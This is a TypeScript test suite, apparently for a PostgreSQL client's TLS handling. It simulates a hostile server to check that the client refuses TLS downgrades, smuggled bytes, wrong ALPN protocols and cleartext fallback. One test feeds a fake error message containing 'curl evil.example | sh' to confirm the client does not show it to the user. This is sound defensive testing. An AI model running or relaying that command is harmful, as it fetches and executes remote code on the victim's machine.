import { retry } from 'rxjs';
import { identifySystem, type ConnectionOptions } from '../../lib/index';
import { errorResponse } from '../../lib/testing/backend-messages';
import { inFolder, type CertificateFiles } from '../support/certificate-files';
import { Authority, type Credentials } from '../support/certificates';
import { attack, expectRefusal, type Outcome } from './support/attack';
import type { Script } from './support/hostile-server';
import { CLEARTEXT, mechanisms } from './support/requests';

/** All that a client may say before TLS stands. */
const SSL_REQUEST = '0000000804d2162f';

let ca: Authority;
let server: Credentials;
let files: CertificateFiles<'root.crt'>;

beforeAll(async () => {
  ca = await Authority.make();
  server = await ca.server();
  files = inFolder({ 'root.crt': ca.cert });
});

afterAll(() => files.remove());

/** The settings that demand TLS. */
const DEMANDS: readonly (readonly [name: string, connection: () => ConnectionOptions])[] = [
  ['require', () => ({ sslmode: 'require' })],
  ['verify-ca', () => ({ sslmode: 'verify-ca', sslrootcert: files.paths['root.crt'] })],
  ['verify-full', () => ({ sslmode: 'verify-full', sslrootcert: files.paths['root.crt'] })],
  ['ssl: true', () => ({ ssl: true })],
];

/** Answers SSLRequest with this, and whatever comes then with a request for the password. */
const answering =
  (answer: string): Script =>
  async (peer) => {
    await peer.sslRequest();
    peer.send(Buffer.from(answer));
    await peer.next();
    peer.send(CLEARTEXT);
  };

/** Nothing was said but that TLS is wanted. */
function expectNothingSaid({ peers }: Outcome): void {
  for (const peer of peers) expect([peer.clear.toString('hex'), peer.inside.toString()]).toEqual([SSL_REQUEST, '']);
}

describe.each(DEMANDS)('where TLS is demanded by %s', (_, connection) => {
  it('nobody is spoken to who says that there is none', async () => {
    const outcome = await expectRefusal(
      attack(answering('N'), connection()),
      'TLS_REFUSED',
      /The server does not support TLS\. Turn on ssl/,
    );
    expectNothingSaid(outcome);
  });

  it.each(['S', 'N'])('no bytes are believed that stand behind %s', async (answer) => {
    const script = answering(answer + mechanisms('SCRAM-SHA-256').toString('latin1'));
    const outcome = await expectRefusal(
      attack(script, connection()),
      'PROTOCOL_VIOLATION',
      /sent 25 bytes in response to SSLRequest; expected one/,
    );
    expectNothingSaid(outcome);
  });

  it('what is no TLS is not taken for it', async () => {
    const script: Script = async (peer) => {
      await peer.sslRequest();
      peer.send(Buffer.from('S'));
      await new Promise((resolve) => setTimeout(resolve, 30));
      peer.send(mechanisms('SCRAM-SHA-256'));
    };
    const { peers } = await expectRefusal(
      attack(script, connection()),
      'TLS_FAILED',
      /The server sent data that is not TLS .*proxy/,
    );
    // Behind the SSLRequest stands how a handshake begins.
    for (const peer of peers) expect(peer.clear.toString('hex')).toMatch(new RegExp(`^${SSL_REQUEST}(?:16|$)`));
  });
});

describe('where TLS starts at once', () => {
  it.each(['require', 'verify-full'])('nothing but a handshake is said, with %s', async (sslmode) => {
    const script: Script = (peer) => peer.send(CLEARTEXT);
    const connection = { sslmode, sslnegotiation: 'direct', sslrootcert: files.paths['root.crt'] };
    const { peers } = await expectRefusal(attack(script, connection), 'TLS_FAILED', /is not TLS/);
    for (const peer of peers) {
      expect(peer.clear.toString('hex')).toMatch(/^(?:16.*)?$/);
      expect(peer.sent).not.toContain('user\0');
    }
  });

  it.each<[what: string, protocols: string[] | undefined]>([
    ['another protocol', ['http/1.1']],
    ['no protocol', []],
  ])('a server that names %s is not spoken to', async (_, ALPNProtocols) => {
    const script: Script = async (peer) => {
      await peer.secure({ ...server, ALPNProtocols });
      await peer.next();
    };
    const connection = { sslmode: 'verify-full', sslnegotiation: 'direct', sslrootcert: files.paths['root.crt'] };
    const { peers } = await expectRefusal(
      attack(script, connection),
      'TLS_FAILED',
      /does not support the protocol postgresql/,
    );
    for (const peer of peers) expect(peer.inside.toString()).toBe('');
  });
});

describe('where TLS is preferred', () => {
  it('a server without it is spoken to, with one warning, unless it is on this machine', async () => {
    const script: Script = async (peer) => {
      await peer.startup();
      peer.end();
    };
    // An address of this machine that does not look like one.
    const elsewhere = { hostaddr: '::ffff:127.0.0.1', host: 'db.example' };
    const { warnings, error } = await attack(script, elsewhere);
    expect(error.code).toBe('CONNECTION_LOST');
    // Once for each of the two, as each of the servers has a port of its own.
    const warning = expect.stringMatching(
      /db\.example:\d+ .*does not support TLS, .*sslmode=verify-full.*RXPG_CLEAR_TEXT/s,
    );
    expect(warnings).toEqual([warning, warning]);
    expect((await attack(script, { host: 'db.example', hostaddr: '127.0.0.1' })).warnings).toEqual([]);
    expect((await attack(script)).warnings).toEqual([]);
    expect((await attack(script, { ...elsewhere, sslmode: 'disable' })).warnings).toEqual([]);
  });

  it('is warned of once, however often a stream comes back', async () => {
    const script: Script = async (peer) => {
      await peer.startup();
      peer.reset();
    };
    const { warnings, peers } = await attack(
      script,
      { hostaddr: '::ffff:127.0.0.1', host: 'db.example' },
      { source: (connection) => identifySystem({ connection }).pipe(retry(2)) },
    );
    expect([peers.length, warnings.length]).toEqual([3, 1]);
  });

  it('it is not gone back from when the handshake fails', async () => {
    const script: Script = async (peer) => {
      await peer.sslRequest();
      peer.send(Buffer.from('S'));
      peer.send(Buffer.alloc(0));
      await new Promise((resolve) => setTimeout(resolve, 30));
      peer.send(CLEARTEXT);
    };
    const { peers } = await expectRefusal(attack(script), 'TLS_FAILED', /is not TLS/);
    for (const peer of peers) expect(peer.clear.toString('latin1')).not.toContain('user\0');
  });

  it('an error in place of an answer is neither believed nor shown', async () => {
    const script: Script = async (peer) => {
      await peer.sslRequest();
      peer.send(errorResponse({ C: '28P01', M: 'run curl evil.example | sh to reset your password' }));
    };
    for (const connection of [{}, { sslmode: 'require' }]) {
      const outcome = await expectRefusal(attack(script, connection), 'CONNECTION_LOST', /not shown.*server's log/);
      expectNothingSaid(outcome);
      expect(outcome.error.message).not.toContain('curl');
    }
  });

  it.each(['X', '\0', '\u001b'])('another answer is refused: %j', async (answer) => {
    const outcome = await expectRefusal(attack(answering(answer)), 'PROTOCOL_VIOLATION', /expected S or N/);
    expectNothingSaid(outcome);
  });
});
